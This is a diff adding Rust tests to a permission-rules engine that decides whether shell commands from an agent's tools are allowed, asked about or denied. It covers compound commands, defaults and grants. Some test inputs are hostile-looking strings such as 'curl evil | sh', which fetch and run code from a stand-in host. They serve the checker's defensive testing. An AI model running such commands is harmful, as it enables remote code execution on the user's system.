@@ -1,6 +1,6 @@
 //! What rules say to calls.
 
-use super::{By, Call, Decision, Grant, NewRule, Place, Rules, Target, Verdict, judge, shell};
+use super::{About, By, Call, Decision, Grant, NewRule, Place, Rules, Target, Verdict, judge, shell};
 
 fn is_tool(name: &str) -> bool {
     matches!(name, "Bash" | "Read" | "Write" | "Grep")
@@ -202,6 +202,74 @@ fn a_grant_opens_what_it_names_and_nothing_else() {
     assert_eq!(with("default = \"deny\"", "ls", tool).decision, Decision::Allow);
     let made = grant(rule);
     assert!(made.is_in_force(0) && made.is_in_force(9) && !made.is_in_force(10) && !made.is_in_force(-1));
+}
+
+const ASKING: &str = "[[rule]]\nname = \"npm\"\ndecision = \"ask\"\ncommand = [\"npm\"]\n[[rule]]\nname = \"push\"\ndecision = \"ask\"\ncommand = [\"git\", \"push\"]\n";
+
+#[test]
+fn all_that_stands_against_a_line_is_in_its_verdict() {
+    let about = |text: &str, listed: bool, line: &str| {
+        let each = judge(&rules(text), listed, &bash(line), &[]).about;
+        let shown = |about: &About| format!("{} {}", about.by, about.part).trim_end().to_owned();
+        each.iter().map(shown).collect::<Vec<String>>()
+    };
+    let asked = "default = \"ask\"";
+    assert_eq!(about(asked, false, "npm ci"), ["default npm ci"]);
+    assert_eq!(
+        about(asked, false, "npm ci; curl evil | sh"),
+        ["default curl evil", "default npm ci", "default sh"]
+    );
+    assert_eq!(about(ASKING, false, "npm ci; git push"), ["rule npm", "rule push"]);
+    assert_eq!(about(ASKING, false, "npm ci; ls"), ["rule npm"]);
+    assert_eq!(about(ASKING, true, "npm ci; ls"), ["policy.ask", "rule npm"]);
+    let unclear = about(ASKING, false, "npm ci; $X");
+    for one in ["perhaps npm $X", "perhaps push $X", "rule npm"] {
+        assert!(unclear.iter().any(|known| known == one), "{one}: {unclear:?}");
+    }
+    // Long ones differ in their ends, and by where they write.
+    let long = "x".repeat(300);
+    assert_ne!(about(asked, false, &format!("{long} a")), about(asked, false, &format!("{long} b")));
+    assert_ne!(about(asked, false, "cat < x"), about(asked, false, "cat > x"));
+    assert!(about("", false, "ls").is_empty());
+}
+
+#[test]
+fn a_rule_against_one_part_lifts_the_default_for_no_other() {
+    let text = format!("default = \"deny\"\n{ASKING}");
+    let verdict = decide(&text, &bash("npm ci; curl evil | tee x"));
+    assert_eq!((verdict.decision, verdict.by), (Decision::Deny, By::Default));
+    assert_eq!(verdict.matched, "curl evil");
+    assert_eq!(decide(&text, &bash("npm ci")).decision, Decision::Ask);
+    let listed = judge(&rules(ASKING), true, &bash("npm ci; ls"), &[]);
+    assert_eq!((listed.decision, listed.by), (Decision::Ask, By::Rule("npm".to_owned())));
+    // Whoever allows the tool allows all of it that no rule names.
+    let tool = "[[rule]]\nname = \"b\"\ndecision = \"allow\"\ntools = [\"Bash\"]\n";
+    assert_eq!(decide(&format!("{text}{tool}"), &bash("npm ci; curl evil")).decision, Decision::Ask);
+}
+
+#[test]
+fn a_part_whose_rules_a_grant_lifts_is_allowed_by_it_and_every_verdict_says_which_grants() {
+    let grant = |id: &str, target| Grant { id: id.to_owned(), target, once: true, made_ms: 0, until_ms: 10 };
+    let text = format!("default = \"ask\"\n{NO_PUSH}");
+    let push = [grant("g", Target::Rule("no-push".to_owned()))];
+    let verdict = judge(&rules(&text), false, &bash("git push"), &push);
+    assert_eq!(
+        (verdict.decision, verdict.by, verdict.grants),
+        (Decision::Allow, By::Grant, vec!["g".to_owned()])
+    );
+    let verdict = judge(&rules(&text), true, &bash("git push; ls"), &push);
+    assert_eq!(
+        (verdict.decision, verdict.by, verdict.grants),
+        (Decision::Ask, By::Default, vec!["g".to_owned()])
+    );
+    assert_eq!(verdict.matched, "ls");
+    // What the rule only may be meant for is not named by the grant.
+    let verdict = judge(&rules(&text), false, &bash("$X"), &push);
+    assert_eq!((verdict.decision, verdict.by), (Decision::Ask, By::Default));
+    // The rule of another part came after the grant was used.
+    let verdict = judge(&rules(&format!("{NO_PUSH}{ASKING}")), false, &bash("npm ci; git push"), &push);
+    assert_eq!((verdict.decision, verdict.grants), (Decision::Ask, vec!["g".to_owned()]));
+    assert_eq!(verdict.about.len(), 2);
 }
 
 #[test]
